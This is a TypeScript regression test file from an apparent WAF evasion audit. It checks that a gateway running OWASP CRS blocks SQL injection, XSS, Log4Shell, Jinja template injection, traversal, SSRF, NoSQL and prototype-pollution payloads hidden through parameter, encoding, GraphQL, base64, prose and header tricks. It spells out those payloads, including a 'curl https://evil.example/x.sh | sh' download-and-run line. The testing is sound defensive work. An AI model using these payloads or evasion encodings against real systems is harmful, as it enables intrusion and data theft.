/**
 * Audit 9 (round 2 of the WAF evasion audit): parser differentials and the API profile's value heuristics, against
 * the `waf` policy (CRS v4.28.0 from ../shared, PL1, blocking) through the real gateway in front of a recording
 * upstream, for the default API profile (`/*`) and `profile: crs` (`/crs/*`). Every technique here is one the
 * gateway stops: a baseline attack (SQL injection, XSS, command injection, path traversal, Log4Shell, NoSQL
 * operators, prototype pollution, template injection, SSRF) hidden by duplicate, nested, mangled or reserved-looking
 * parameter names, `;` separators, `%u` and invalid UTF-8 in forms, form charsets, the same parameter in the query
 * and the body, GraphQL aliases, fragments, directives, variable defaults, batches and persisted-query extensions,
 * nested JSON and base64, escaped JSON keys, prose and rich-text wrappers, code samples that read as payloads, and
 * header and cookie tricks. Each is refused with the status asserted and the upstream never sees the request.
 * The techniques that got through (fenced code, code-named compound fields, lenient base64, headers the profile
 * does not decode) are in the audit's report, not here.
 */
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { builtinPolicies } from '../../src/policies/index.ts';
import { policy as waf } from '../../src/policies/waf/policy.ts';
import {
  rawRequest,
  startGateway,
  startUpstream,
  statuses,
  type TestGateway,
  type TestUpstream,
} from '../helpers/gateway.ts';

const CRS = join(import.meta.dirname, '../../../shared/crs/v4.28.0');
const RULES = `{ setup: "${join(CRS, 'crs-setup.conf.example')}", include: ["${join(CRS, 'rules')}"] }`;

const SQLI = "' UNION SELECT password FROM users--";
/** A string break-out that needs no comment: the sink's closing quote ends the last literal. */
const SQLI_OPEN = "x' UNION SELECT password FROM users WHERE ''<>'";
const XSS = '<script>alert(1)</script>';
/** Log4Shell lookup (`\x24` is `$`). */
const JNDI = '\x24{jndi:ldap://x.example/a}';
const J = (v: unknown): string => JSON.stringify(v);
const E = encodeURIComponent;
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
/** `s` wrapped `n` times in a JSON document as the string value of `q`. */
const nestJson = (s: string, n: number): string => (n === 0 ? s : nestJson(J({ q: s }), n - 1));

type Profile = 'api' | 'crs';
const BOTH: readonly Profile[] = ['api', 'crs'];
/** Route prefix of each profile. */
const PREFIX: Record<Profile, string> = { api: '/', crs: '/crs/' };

/** A raw HTTP/1.1 request (Host, a browser User-Agent unless given, Accept, Content-Length for a body, close). */
function req(
  method: string,
  target: string,
  headers: [string, string][],
  body: string | Buffer = '',
): Buffer {
  const b = typeof body === 'string' ? Buffer.from(body, 'utf8') : body;
  const lines = [`${method} ${target} HTTP/1.1`, 'Host: api.example.com'];
  if (!headers.some(([k]) => k.toLowerCase() === 'user-agent'))
    lines.push('User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0');
  lines.push('Accept: application/json', ...headers.map(([k, v]) => `${k}: ${v}`));
  if (b.length > 0) lines.push(`Content-Length: ${b.length}`);
  lines.push('Connection: close');
  return Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1'), b]);
}

const FORM = 'application/x-www-form-urlencoded';
const post = (p: string, ct: string, body: string | Buffer): Buffer =>
  req('POST', `${p}x`, [['Content-Type', ct]], body);
const postJson = (p: string, body: string): Buffer => post(p, 'application/json', body);
const postForm = (p: string, body: string): Buffer => post(p, FORM, body);
const get = (target: string, headers: [string, string][] = []): Buffer => req('GET', target, headers);
/** A multipart/form-data body (boundary `b`) with one field. */
const multipart = (p: string, name: string, value: string): Buffer =>
  post(
    p,
    'multipart/form-data; boundary=b',
    `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n--b--\r\n`,
  );

interface Case {
  readonly name: string;
  readonly status: number;
  /** Profiles the case is asserted on (both unless given: the other one lets it through). */
  readonly profiles?: readonly Profile[];
  readonly build: (prefix: string) => Buffer;
}

/** Evasions the gateway refuses. */
const CASES: readonly Case[] = [
  // Query and form parameter differentials
  {
    name: 'query: duplicate parameter, hostile copy first (first-wins backends: Go, Flask)',
    status: 403,
    build: (p) => get(`${p}x?q=${E(SQLI)}&q=1`),
  },
  {
    name: 'query: duplicate parameter, hostile copy last (last-wins backends: PHP, Express)',
    status: 403,
    build: (p) => get(`${p}x?q=1&q=${E(SQLI)}`),
  },
  {
    name: 'query: nested brackets a[b][c]= (qs, PHP)',
    status: 403,
    build: (p) => get(`${p}x?a[b][c]=${E(SQLI)}`),
  },
  {
    name: 'query: dotted name user.name= (PHP reads user_name)',
    status: 403,
    build: (p) => get(`${p}x?user.name=${E(SQLI)}`),
  },
  { name: 'query: name with %20', status: 403, build: (p) => get(`${p}x?user%20name=${E(SQLI)}`) },
  { name: 'query: name with %00', status: 403, build: (p) => get(`${p}x?q%00x=${E(SQLI)}`) },
  { name: 'form: q[]= array', status: 403, build: (p) => postForm(p, `q[]=${E(SQLI)}`) },
  {
    name: 'form: %u encoding',
    status: 403,
    build: (p) => postForm(p, 'q=%u0027%u0020UNION%u0020SELECT%u0020password%u0020FROM%u0020users--'),
  },
  {
    name: 'form: invalid UTF-8 %ff before the payload (qs then skips decoding)',
    status: 403,
    build: (p) => postForm(p, `q=%ff${E(SQLI)}`),
  },
  { name: 'form: ; as separator (old Python)', status: 403, build: (p) => postForm(p, `a=1;q=${E(SQLI)}`) },
  {
    name: 'form: benign q in the query, hostile q in the body (PHP $_REQUEST, Spring, Flask values)',
    status: 403,
    build: (p) => req('POST', `${p}x?q=1`, [['Content-Type', FORM]], `q=${E(SQLI)}`),
  },
  {
    name: 'form: charset=windows-1252',
    status: 403,
    build: (p) => post(p, `${FORM}; charset=windows-1252`, `q=${E(SQLI)}`),
  },
  {
    name: 'query: a client parameter json_name (PHP: json.name)',
    status: 403,
    build: (p) => get(`${p}x?json_name=${E(SQLI)}`),
  },
  { name: 'query: json[name]=', status: 403, build: (p) => get(`${p}x?json[name]=${E(SQLI)}`) },
  {
    name: 'query: json%5Bname= (unbalanced bracket)',
    status: 403,
    build: (p) => get(`${p}x?json%5Bname=${E(SQLI)}`),
  },
  { name: 'form: a field named json.name', status: 403, build: (p) => postForm(p, `json.name=${E(SQLI)}`) },
  { name: 'form: a field named json[name]', status: 403, build: (p) => postForm(p, `json[name]=${E(SQLI)}`) },
  {
    name: 'form: a field named json%2Ename',
    status: 403,
    build: (p) => postForm(p, `json%2Ename=${E(SQLI)}`),
  },
  { name: 'multipart: a field named json.name', status: 403, build: (p) => multipart(p, 'json.name', SQLI) },
  {
    name: 'query: double percent-encoding with + for spaces in the inner layer (PHP urldecode twice)',
    status: 403,
    build: (p) => get(`${p}x?q=%2527%2BUNION%2BSELECT%2Bpassword%2BFROM%2Busers--`),
  },
  {
    name: 'form: charset=utf-16le',
    status: 403,
    build: (p) => post(p, `${FORM}; charset=utf-16le`, Buffer.from(`q=${SQLI}`, 'utf16le')),
  },
  // Other body types
  {
    name: 'XML: payload in an attribute value (JAXB @XmlAttribute)',
    status: 403,
    build: (p) => post(p, 'application/xml', `<a q="${SQLI.replace(/'/g, '&apos;')}"/>`),
  },
  { name: 'YAML body', status: 403, build: (p) => post(p, 'application/yaml', `q: "${SQLI}"\n`) },
  { name: 'CSV body', status: 403, build: (p) => post(p, 'text/csv', `name,q\na,"${SQLI}"\n`) },
  {
    name: 'JSON sent as application/octet-stream',
    status: 403,
    build: (p) => post(p, 'application/octet-stream', J({ q: SQLI })),
  },
  {
    name: 'MessagePack body',
    status: 403,
    build: (p) =>
      post(
        p,
        'application/msgpack',
        Buffer.concat([Buffer.from([0x81, 0xa1, 0x71, 0xd9, SQLI.length]), Buffer.from(SQLI)]),
      ),
  },
  {
    name: 'CBOR body',
    status: 403,
    build: (p) =>
      post(
        p,
        'application/cbor',
        Buffer.concat([Buffer.from([0xa1, 0x61, 0x71, 0x78, SQLI.length]), Buffer.from(SQLI)]),
      ),
  },
  {
    name: 'JSON charset=iso-8859-1',
    status: 403,
    build: (p) => post(p, 'application/json; charset=iso-8859-1', J({ q: SQLI })),
  },
  {
    name: 'JSON: payload at the end of a 100 KB string value',
    status: 403,
    build: (p) => postJson(p, J({ q: 'a '.repeat(50_000) + SQLI })),
  },
  {
    name: 'JSON: dotless i in a script tag (upper-cases to SCRIPT)',
    status: 403,
    build: (p) => postJson(p, J({ q: '<scr\u0131pt>alert(1)</scr\u0131pt>' })),
  },
  // GraphQL
  {
    name: 'GraphQL alias around the injected field',
    status: 403,
    build: (p) => postJson(p, J({ query: `{x: a(q:"${SQLI}")}` })),
  },
  {
    name: 'GraphQL fragment holding the literal',
    status: 403,
    build: (p) => postJson(p, J({ query: `{...F} fragment F on Q {a(q:"${SQLI}")}` })),
  },
  {
    name: 'GraphQL directive argument',
    status: 403,
    build: (p) => postJson(p, J({ query: `{a @include(if:true) @x(r:"${SQLI}")}` })),
  },
  {
    name: 'GraphQL variable default value',
    status: 403,
    build: (p) => postJson(p, J({ query: `query($q:String="${SQLI}"){a(q:$q)}` })),
  },
  {
    name: 'GraphQL batch mixing a query and a mutation with variables',
    status: 403,
    build: (p) => postJson(p, J([{ query: '{me{id}}' }, { query: 'mutation{a}', variables: { q: SQLI } }])),
  },
  {
    name: 'GraphQL persisted-query extensions carrying the payload',
    status: 403,
    build: (p) =>
      postJson(p, J({ extensions: { persistedQuery: { version: 1, sha256Hash: 'a' }, q: SQLI } })),
  },
  {
    name: 'GraphQL GET with an alias and a fragment',
    status: 403,
    build: (p) => get(`${p}graphql?query=${E(`{...F} fragment F on Q {x:a(q:"${SQLI}")}`)}`),
  },
  // JSON
  {
    name: 'JSON: nested \\u0024where key',
    status: 403,
    build: (p) => postJson(p, '{"filter":{"\\u0024where":"sleep(1000)"}}'),
  },
  {
    name: 'JSON: number sent as a string for a numeric context',
    status: 403,
    build: (p) => postJson(p, J({ id: '1 UNION SELECT password FROM users' })),
  },
  {
    name: 'JSON: __proto__ in JSON inside a string',
    status: 403,
    build: (p) => postJson(p, J({ d: '{"__proto__":{"isAdmin":true}}' })),
  },
  {
    name: 'JSON: JSON nested four levels deep in strings',
    status: 403,
    build: (p) => postJson(p, J({ d: nestJson(SQLI, 4) })),
  },
  {
    name: 'JSON: base64 of JSON holding __proto__ (API profile)',
    status: 403,
    profiles: ['api'],
    build: (p) => postJson(p, J({ d: b64('{"__proto__":{"isAdmin":true}}') })),
  },
  {
    name: 'JSON: base64 of JSON of base64 (API profile)',
    status: 403,
    profiles: ['api'],
    build: (p) => postJson(p, J({ d: b64(J({ q: b64(SQLI) })) })),
  },
  {
    name: 'query: base64 three times (API profile)',
    status: 403,
    profiles: ['api'],
    build: (p) => get(`${p}x?c=${E(b64(b64(b64(SQLI))))}`),
  },
  {
    name: 'JSON: data: URL whose base64 has a stray dot',
    status: 403,
    build: (p) => postJson(p, J({ f: `data:text/plain;base64,${b64(SQLI).replace(/^(.{4})/, '$1.')}` })),
  },
  {
    name: 'JSON: cloud metadata URL',
    status: 403,
    build: (p) => postJson(p, J({ url: 'http://169.254.169.254/latest/meta-data/' })),
  },
  // Prose, rich text and code wrappers
  {
    name: 'prose: cloud metadata URL in a sentence',
    status: 403,
    build: (p) =>
      postJson(
        p,
        J({ note: 'Please fetch the profile picture from http://169.254.169.254/latest/meta-data/ for me' }),
      ),
  },
  {
    name: 'prose: {{7*7}} in a sentence',
    status: 403,
    build: (p) => postJson(p, J({ subject: 'Hello {{7*7}} from the support team today' })),
  },
  {
    name: 'prose: Jinja globals walk in a greeting',
    status: 403,
    build: (p) =>
      postJson(p, J({ subject: "Hi {{ cycler.__init__.__globals__.os.popen('ls').read() }} there friend" })),
  },
  {
    name: 'prose: Log4Shell in a sentence',
    status: 403,
    build: (p) => postJson(p, J({ note: `Hello there my friend ${JNDI} thanks` })),
  },
  {
    name: 'prose: traversal in a sentence',
    status: 403,
    build: (p) => postJson(p, J({ file: 'Please open the file ../../../../etc/passwd now' })),
  },
  {
    name: 'fenced code: traversal to /etc/passwd',
    status: 403,
    build: (p) => postJson(p, J({ file: '```\n../../../../etc/passwd\n```' })),
  },
  {
    name: 'fenced code: whoami after a separator',
    status: 403,
    build: (p) => postJson(p, J({ host: '```\n127.0.0.1; whoami\n```' })),
  },
  {
    name: 'fenced code: ;id (API profile)',
    status: 403,
    profiles: ['api'],
    build: (p) => postJson(p, J({ host: '```\n;id\n```' })),
  },
  {
    name: 'fenced code as a $where operand',
    status: 403,
    build: (p) => postJson(p, J({ filter: { $where: '```\nsleep(1000)\n```' } })),
  },
  {
    name: 'fenced code in a query parameter (queries are not split into code)',
    status: 403,
    build: (p) => get(`${p}x?q=${E(`\`\`\`\n${SQLI_OPEN}\n\`\`\``)}`),
  },
  {
    name: 'rich text: SQL break-out as a <pre><code> sample',
    status: 403,
    build: (p) => postJson(p, J({ bio: `<p>Example:</p><pre><code>${SQLI}</code></pre>` })),
  },
  {
    name: 'rich text: SQL break-out in an inline <code>',
    status: 403,
    build: (p) => postJson(p, J({ bio: `<p>See <code>${SQLI}</code> here</p>` })),
  },
  {
    name: 'rich text: &lt without a semicolon spelling a script element',
    status: 403,
    build: (p) =>
      postJson(p, J({ bio: '<p>Hello &ltscript&gtalert(document.domain)&lt/script&gt there</p>' })),
  },
  {
    name: 'markdown: indented code block that starts with a quote',
    status: 403,
    build: (p) => postJson(p, J({ bio: `Here is the query I use today\n\n    ${SQLI_OPEN}\n` })),
  },
  {
    name: 'code-named compound field on one line (couponCode)',
    status: 403,
    build: (p) => postJson(p, J({ couponCode: SQLI_OPEN })),
  },
  {
    name: 'two-line XSS in a query parameter named like code (utm_source)',
    status: 403,
    build: (p) => get(`${p}x?utm_source=${E(`${XSS}\nx`)}`),
  },
  // Headers and cookies
  {
    name: 'header: SQL break-out in a custom header (API profile)',
    status: 403,
    profiles: ['api'],
    build: (p) => get(`${p}x`, [['X-Tenant-Id', SQLI]]),
  },
  {
    name: 'header: SQL in X-Forwarded-For (API profile)',
    status: 403,
    profiles: ['api'],
    build: (p) => get(`${p}x`, [['X-Forwarded-For', SQLI]]),
  },
  {
    name: 'header: traversal in X-Forwarded-Host',
    status: 403,
    build: (p) => get(`${p}x`, [['X-Forwarded-Host', '../../../../etc/passwd']]),
  },
  {
    name: 'header: SQL in Referer',
    status: 403,
    build: (p) => get(`${p}x`, [['Referer', `https://a.example/?q=${SQLI}`]]),
  },
  {
    name: 'header: Log4Shell in User-Agent',
    status: 403,
    build: (p) => get(`${p}x`, [['User-Agent', JNDI]]),
  },
  {
    name: 'cookie: empty pair between separators (a=1;;q=…)',
    status: 403,
    build: (p) => get(`${p}x`, [['Cookie', `a=1;;q=${E(SQLI)}`]]),
  },
  {
    name: 'cookie: no space after ; and + for spaces',
    status: 403,
    build: (p) => get(`${p}x`, [['Cookie', `a=1;q=${SQLI.replace(/ /g, '+')}`]]),
  },
  // The round's bypasses, fixed (API profile; each reached the upstream before).
  {
    name: 'B1: fenced block in a data field (not a markdown field: no code exemption)',
    status: 403,
    profiles: ['api'],
    build: (p) => postJson(p, J({ name: `\`\`\`\n${SQLI_OPEN}\n\`\`\`` })),
  },
  {
    name: 'B1: tilde-fenced script in a form field',
    status: 403,
    profiles: ['api'],
    build: (p) => postForm(p, `name=${E(`~~~\n${XSS}\n~~~`)}`),
  },
  {
    name: 'B1: fenced block that leaves a SQL string, even in a markdown field',
    status: 403,
    profiles: ['api'],
    build: (p) => postJson(p, J({ body: `See:\n\`\`\`\n${SQLI_OPEN}\n\`\`\`` })),
  },
  {
    name: 'B2: two-line value of a couponCode (a data field, not code)',
    status: 403,
    profiles: ['api'],
    build: (p) => postJson(p, J({ couponCode: `${SQLI_OPEN}\nx` })),
  },
  {
    name: 'B2: two-line value of postal_code, utm_source and countryCode',
    status: 403,
    profiles: ['api'],
    build: (p) =>
      postJson(
        p,
        J({
          postal_code: `${SQLI_OPEN}\nx`,
          utm_source: `${XSS}\nx`,
          countryCode: 'de\ncurl https://evil.example/x.sh | sh',
        }),
      ),
  },
  {
    name: "B2: a code field whose value leaves a SQL string (`x' UNION …` over two lines)",
    status: 403,
    profiles: ['api'],
    build: (p) => postJson(p, J({ code: `${SQLI_OPEN}\nx` })),
  },
  {
    name: 'B3: SQL injection as a bearer token',
    status: 403,
    profiles: ['api'],
    build: (p) => get(`${p}x`, [['Authorization', `Bearer ${SQLI}`]]),
  },
  {
    name: 'B4: SQL injection without a comment in a custom header',
    status: 403,
    profiles: ['api'],
    build: (p) => get(`${p}x`, [['X-Tenant-Id', SQLI_OPEN]]),
  },
  {
    name: 'B5: SQL injection as the user name of Basic credentials',
    status: 403,
    profiles: ['api'],
    build: (p) => get(`${p}x`, [['Authorization', `Basic ${b64("admin' OR '1'='1'-- :x")}`]]),
  },
  {
    name: 'B6: base64 with a junk character a lenient decoder skips',
    status: 403,
    profiles: ['api'],
    build: (p) => {
      const enc = b64(SQLI);
      return get(`${p}x?cursor=${enc.slice(0, 4)}.${enc.slice(4)}`);
    },
  },
  {
    name: 'B7: base64 of SQL with form feeds as spaces',
    status: 403,
    profiles: ['api'],
    build: (p) => get(`${p}x?cursor=${E(b64("'\fUNION\fSELECT\fpassword\fFROM\fusers--"))}`),
  },
  {
    name: 'B8: base64 four times over',
    status: 403,
    profiles: ['api'],
    build: (p) => get(`${p}x?c=${E(b64(b64(b64(b64(SQLI)))))}`),
  },
];

describe(
  'audit9: WAF evasions the gateway stops (CRS PL1, blocking; API and crs profiles)',
  { timeout: 60_000 },
  () => {
    let up: TestUpstream;
    let gw: TestGateway;

    before(async () => {
      up = await startUpstream();
      gw = await startGateway(
        `gatehouse: 1
workers: 1
admin: { enabled: false }
logging: { level: warn, access_log: false }
listeners: [{ name: main, host: 127.0.0.1, port: 0 }]
upstreams: [{ name: backend, targets: [{ url: "${up.url}" }] }]
routes:
  - name: crs
    paths: ["/crs/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs }
  - name: api
    paths: ["/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES} }
`,
        {},
        { policies: [...builtinPolicies, waf] },
      );
    });

    after(async () => {
      await gw?.close();
      await up?.close();
    });

    /** Sends raw bytes; returns every status the gateway answered and the requests the upstream received. */
    async function send(payload: Buffer) {
      const n = up.requests.length;
      const out = await rawRequest(gw.port, payload, 2000);
      return { statuses: statuses(out), out, reached: up.requests.slice(n) };
    }

    test('control: the benign shapes of these techniques reach the upstream on both profiles', async () => {
      for (const p of Object.values(PREFIX)) {
        for (const payload of [
          get(`${p}x?q=garden+lantern&q=2&a[b][c]=1&user.name=ada`),
          postForm(p, 'q[]=garden+lantern&page=2'),
          postJson(p, J({ query: '{...F} fragment F on Q {x: a(q:"garden lantern")}' })),
          postJson(p, J({ filter: { status: 'open' }, id: '42' })),
          get(`${p}x`, [
            ['X-Tenant-Id', 'acme'],
            ['Cookie', 'a=1;b=2'],
          ]),
        ]) {
          const r = await send(payload);
          assert.deepEqual(r.statuses, [200], r.out);
          assert.equal(r.reached.length, 1);
        }
      }
    });

    for (const c of CASES) {
      test(`refused: ${c.name}`, async () => {
        for (const profile of c.profiles ?? BOTH) {
          const r = await send(c.build(PREFIX[profile]));
          assert.equal(r.statuses.at(-1), c.status, `${profile}: ${r.out.slice(0, 400)}`);
          assert.deepEqual(
            r.reached.map((q) => `${q.method} ${q.url}`),
            [],
            `${profile}: the upstream saw the request`,
          );
        }
      });
    }
  },
);
